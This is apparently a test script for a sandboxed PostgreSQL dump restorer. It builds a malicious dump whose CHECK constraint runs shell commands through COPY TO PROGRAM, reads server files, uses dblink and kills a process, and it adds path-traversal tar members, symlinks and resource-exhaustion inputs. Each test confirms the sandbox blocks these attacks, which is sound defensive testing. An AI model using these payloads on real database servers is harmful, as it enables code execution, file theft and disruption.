#!/bin/sh
# restore-to-temp: what a hostile dump tries. Each attack is first proved on a server that is not
# sealed: there it does its harm.
# time limit: 900 s
# sanitizers: no, the walls are the kernel's
. "${0%/*}/lib.sh"
need jq perl bash ipcmk
need_pg
PATH=$PG_BIN:$PATH

# What is to be hit: a directory that everybody may write to, with a secret in it; a port; a
# process of the same user; production, whose socket is open to that user.
begin_victim() {
	rm -f "$TMPDIR/victim"
	as_pg sh -c "echo \$\$ >'$TMPDIR/victim'; exec sleep 1000" &
	wait_for 5 test -s "$TMPDIR/victim"
	victim=$(cat "$TMPDIR/victim")
	started "$victim"
}

set_up() {
	pg_start
	sql 'CREATE DATABASE shop' && sql 'CREATE TABLE canary (hit text)'
	SHOP="host=$PG_SOCKET user=postgres dbname=shop"
	LOOT=$SCRATCH/loot
	mkdir "$LOOT"
	echo secret >"$LOOT/secret"
	chmod 777 "$LOOT"
	PORT=$(free_port)
	perl -MIO::Socket::INET -e '$| = 1; $s = IO::Socket::INET->new(LocalAddr => "127.0.0.1",
		LocalPort => shift, Listen => 5, ReuseAddr => 1) or die;
		while ($c = $s->accept) { print "canary\n"; close $c }' "$PORT" >>"$SCRATCH/log/canary" &
	started $!
	begin_victim
	as_pg chmod 755 "$PG_SOCKET"
}

# A table whose check runs this on the server for each row that is loaded, and finds it well.
attack() {
	cat <<-SQL
		CREATE EXTENSION dblink;
		CREATE TABLE loot (what text);
		CREATE FUNCTION try(statement text) RETURNS void LANGUAGE plpgsql AS \$\$ BEGIN
			EXECUTE statement;
		EXCEPTION WHEN OTHERS THEN NULL; END \$\$;
		CREATE FUNCTION harmless(i int) RETURNS bool LANGUAGE plpgsql AS \$\$ BEGIN
			PERFORM public.try(\$x\$COPY (SELECT 1) TO PROGRAM 'cat >/dev/null; exec >/dev/null 2>&1
				touch $LOOT/program; touch ~/../touched; touch /tmp/backup-probes-touched
				bash -c "echo >/dev/tcp/127.0.0.1/$PORT"; kill -9 $victim
				timeout 5 psql -h $PG_SOCKET -U postgres -c "INSERT INTO canary VALUES (1)"
				ln -s / $LOOT/link; (setsid sleep 600 &); ipcmk -M 1000; exit 0'\$x\$);
			PERFORM public.try(\$x\$COPY (SELECT 1) TO '$LOOT/copied'\$x\$);
			PERFORM public.try(\$x\$COPY public.loot FROM '$LOOT/secret'\$x\$);
			PERFORM public.try(\$x\$INSERT INTO public.loot SELECT pg_read_file('$LOOT/secret')\$x\$);
			PERFORM public.try(\$x\$SELECT lo_import('$LOOT/secret', 4242)\$x\$);
			PERFORM public.try(\$x\$SELECT lo_export(4242, '$LOOT/exported')\$x\$);
			PERFORM public.try(\$x\$SELECT public.dblink_exec('host=$PG_SOCKET user=postgres', 'INSERT INTO canary VALUES (2)')\$x\$);
			PERFORM public.try(\$x\$SELECT public.dblink_exec('host=127.0.0.1 port=$PORT user=x connect_timeout=2', 'x')\$x\$);
			RETURN true;
		END \$\$;
		CREATE TABLE users (id int, CONSTRAINT quiet CHECK (harmless(id)) NOT VALID);
	SQL
}

# What was hit since the last call.
damage() {
	find "$LOOT" "$SCRATCH/touched" "$TMPDIR/touched" /tmp/backup-probes-touched \
		-mindepth 0 ! -path "$LOOT" ! -name secret 2>/dev/null | sort
	cat "$SCRATCH/log/canary"
	sql 'SELECT * FROM canary'
	sql "$SHOP" 'SELECT * FROM loot'
	kill -0 "$victim" 2>/dev/null || echo "killed $victim"
	pgrep -fx 'sleep 600' || true
}

# Undoes it.
mend() {
	find "$LOOT" -mindepth 1 ! -name secret -delete
	rm -f /tmp/backup-probes-touched "$SCRATCH/touched" "$TMPDIR/touched"
	: >"$SCRATCH/log/canary"
	sql 'TRUNCATE canary'
	sql "$SHOP" 'TRUNCATE loot; SELECT lo_unlink(oid) FROM pg_largeobject_metadata'
	for p in $(pgrep -fx 'sleep 600'); do
		[ "$(ps -o pgid= -p "$p" | tr -d ' ')" != "$p" ] || kill "$p"
	done
	for id in $(ipcs -m | awk '$5 == 1000 && $6 == 0 { print $2 }'); do ipcrm -m "$id"; done
	kill -0 "$victim" 2>/dev/null || begin_victim
}

prepare set_up
attack >attack.sql
sql "$SHOP" "$(cat attack.sql)" >/dev/null || exit 1
victim_of_attack=$victim

# On production the attack does all its harm.
unsealed() {
	sql "$SHOP" 'INSERT INTO users VALUES (1)'
	damage >harm
	cat harm
	for sign in program link copied exported touched '^canary' '^1$' '^2$' '^secret' \
		"killed $victim_of_attack" '^[0-9]+$'; do
		grep -qE -e "$sign" harm || say_failed "the attack did not do: $sign"
	done
}
t "the attack is one: on a server that is not sealed it does its harm" unsealed
mend >"$SCRATCH/log/mend" 2>&1
sed -i "s/kill -9 $victim_of_attack/kill -9 $victim/" attack.sql
sql "$SHOP" "DROP TABLE users, loot; DROP FUNCTION harmless, try; DROP EXTENSION dblink" >/dev/null
sql "$SHOP" "$(cat attack.sql); SET session_replication_role = replica;
	CREATE TABLE quiet (id int); INSERT INTO quiet SELECT 1" >/dev/null
# The rows of a table without the check, in a dump of a table with it.
sql "$SHOP" "ALTER TABLE users DROP CONSTRAINT quiet; INSERT INTO users VALUES (1);
	ALTER TABLE users ADD CONSTRAINT quiet CHECK (harmless(id)) NOT VALID" >/dev/null
damage >before
for format in plain custom tar directory; do
	pg_dump -d "$SHOP" -F $format -f "$format" || exit 1
	chmod -R a+rX "$format"
done

# The server ran it, and all of it hit a wall. The probe sees what was stolen.
cat >look <<'EOS'
#!/bin/sh
cat
n=$(psql -XqAt -c 'SELECT count(*) FROM loot') || exit 3
u=$(psql -XqAt -c 'SELECT count(*) FROM users') || exit 3
lo=$(psql -XqAt -c 'SELECT count(*) FROM pg_largeobject_metadata') || exit 3
echo "{\"record\":\"check\",\"check\":\"stolen\",\"status\":\"ok\",\"summary\":\"$n $u $lo\"}"
EOS
chmod 755 look

nothing_happened() {
	damage >after
	diff before after || say_failed "it did harm"
	expect_nothing_left
}

sealed() {
	expect_status 0 "$@" --backup "$format" --records -- "$SCRATCH/look"
	expect_check isolation ok
	expect_check restore ok
	expect_records 'any(.check == "stolen" and .summary == "0 1 0")'
	nothing_happened
}
for format in plain custom tar directory; do
	t "code that runs while a $format dump is restored reaches nothing" sealed restore-to-temp
done
if [ "$(id -u)" -eq 0 ]; then
	format=custom
	# As the user that production trusts, not as root.
	by_plain_user() {
		plain_users_can_seal || skip "optional: users without rights make no namespaces here"
		sealed as_pg env TMPDIR="$TMPDIR" restore-to-temp
	}
	t "nor where the one who restores is no root" by_plain_user
fi

# --- statements that name what they are after ------------------------------------------------------

by_name() {
	{
		echo 'SELECT 1;'
		echo "\\! touch $LOOT/meta"
		echo "COPY (SELECT 1) TO PROGRAM 'touch $LOOT/x';"
		echo "COPY (SELECT 1) TO '$LOOT/x';"
		echo "CREATE SUBSCRIPTION s CONNECTION 'host=$PG_SOCKET' PUBLICATION p;"
		echo "LOAD '/tmp/x';"
		cat plain
	} >named.sql
	expect_status 2 restore-to-temp --records --backup named.sql
	expect_check restore critical
	expect_out '5 refused statements: line 2: a command of psql: .* touch '
	expect_out 'line 3: runs a program on the server: COPY \(SELECT 1\) TO PROGRAM'
	expect_out 'line 4: reads or writes a file of the server: COPY '
	expect_out 'line 5: connects to another server: CREATE SUBSCRIPTION'
	expect_out 'line 6: loads a library into the server: LOAD '
	nothing_happened
}
t "a statement that reaches outside is refused, and its line quoted" by_name

# The text of a comment is made into something else of the same length.
patched() {
	sql "$SHOP" "COMMENT ON TABLE quiet IS '$(printf '%0400d' 0)'"
	pg_dump -d "$SHOP" -F "$1" -f patched
	sql "$SHOP" "COMMENT ON TABLE quiet IS NULL"
	file=patched
	[ "$1" != directory ] || file=patched/toc.dat
	perl -0pi -e 's{COMMENT ON TABLE public.quiet IS .0{400}.;}{$s = "COPY (SELECT 1) TO PROGRAM \x27touch '"$LOOT"'/toc\x27;"; $s . " " x (length($&) - length $s)}e' $file
	grep -q 'PROGRAM .touch.*/toc' $file
	expect_status 2 restore-to-temp --records --backup patched
	expect_out '1 refused statement: runs a program on the server: COPY \(SELECT 1\) TO PROGRAM'
	rm -r patched
	nothing_happened
}
for format in custom tar directory; do
	t "a refused statement in a $format archive is not run" patched $format
done

# --- links and names that lead out -------------------------------------------------------------------

links() {
	data=$(find directory -name '*.dat.gz' | head -n 1)
	cp -r directory linked
	rm "linked/${data##*/}"
	gzip -c "$LOOT/secret" >secret.gz
	chmod 644 secret.gz
	ln -s "$SCRATCH/secret.gz" "linked/${data##*/}"
	expect_status 2 restore-to-temp --records --backup linked
	mv linked/toc.dat "$SCRATCH/toc.elsewhere"
	ln -s "$SCRATCH/toc.elsewhere" linked/toc.dat
	status=0
	restore-to-temp --records --backup linked >"$OUT" 2>"$ERR" || status=$?
	[ $status -ge 2 ] || say_failed "a table of contents from elsewhere was taken"
	rm -r linked
	nothing_happened
}
t "links in a directory archive lead nowhere" links

members() {
	mkdir members
	(cd members && tar -xf ../tar && tar -Pcf ../named.tar --transform "s,^restore.sql,$LOOT/member," toc.dat [0-9]* restore.sql &&
		tar -rPf ../named.tar --transform "s,.*,../../../../../..$LOOT/up," restore.sql)
	tar -tPf named.tar | grep -q "^$LOOT/member"
	status=0
	restore-to-temp --records --backup named.tar >"$OUT" 2>"$ERR" || status=$?
	[ $status -lt 126 ]
	nothing_happened
}
t "members of a tar that name another place are written nowhere" members

# --- too much of everything --------------------------------------------------------------------------

exhaust() {
	{ printf '%s\n' "$2"; cat plain; } >greedy.sql
	# shellcheck disable=SC2086  # options
	expect_status 3 restore-to-temp --records $1 --backup greedy.sql
	expect_check temporary-server ok
	nothing_happened
}
disk() {
	exhaust '--max-disk 250MB' "CREATE TABLE big AS SELECT repeat(md5(random()::text), 50) AS t, g
		FROM generate_series(1, 100000000) g;"
	expect_out 'more disk than --max-disk allows: [0-9.]+ MB of 250 MB, and by estimate it needs [0-9.]+ MB'
}
t "a dump that grows without end ends at the limit on disk" disk

memory() {
	exhaust '--max-memory 400MB' "DO \$\$ DECLARE a text[] := '{}'; BEGIN
		FOR i IN 1..1000000 LOOP a := a || repeat('x', 10000000); END LOOP; END \$\$;"
	expect_out 'out of memory|more memory than --max-memory allows: [0-9.]+ [MG]B of 400 MB'
}
t "a dump that takes all memory ends at the limit on memory" memory

endless() {
	exhaust '--timeout 4s' "SELECT count(*) FROM generate_series(1, 1000000000000);"
	expect_check timeout unknown
}
t "a dump that never comes to its end ends at the limit on time" endless
